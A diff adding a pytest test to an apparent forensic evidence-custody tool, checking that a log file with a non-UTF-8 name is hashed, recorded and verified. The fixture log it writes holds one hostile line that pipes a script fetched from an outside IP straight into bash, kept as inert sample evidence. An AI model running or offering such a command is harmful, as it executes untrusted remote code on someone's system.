@@ -219,3 +219,23 @@ def test_a_run_never_reuses_an_incomplete_ledger(many, tmp_path, monkeypatch):
     monkeypatch.undo()
     with pytest.raises(EvidenceError, match=r"intake incomplete \(interrupted by Ctrl-C\): 2 of 8 files"):
         Investigation.open(many, out)
+
+
+def test_a_name_that_is_not_utf8_is_hashed_by_its_name_on_disk(tmp_path):
+    """Opened by the bytes of its name, recorded once as a file (its name shown with U+FFFD), verified intact."""
+    import os
+
+    from workbench import custody
+    from workbench.case import Case
+
+    case_dir = tmp_path / "case"
+    (case_dir / "logs").mkdir(parents=True)
+    with open(os.fsencode(case_dir / "logs") + b"/build-\xff.log", "wb") as fh:
+        fh.write(b"2026-11-14T03:08:01Z curl -sSL http://203.0.113.7/p.sh | bash\n")
+    ledger = custody.intake(Case.open(case_dir), tmp_path / "out")
+    files = [e for e in ledger.entries if e["type"] == "file"]
+    assert [e["path"] for e in files] == ["logs/build-\ufffd.log"] and len(files[0]["sha256"]) == 64
+    assert not [e for e in ledger.entries if e["type"] == "skipped"]
+    assert [e["type"] for e in ledger.entries if e.get("path") == "logs/build-\ufffd.log"] == ["file", "inventory_note"]
+    result = custody.verify(tmp_path / "out")
+    assert result.verified and result.changed == result.missing == result.added == []
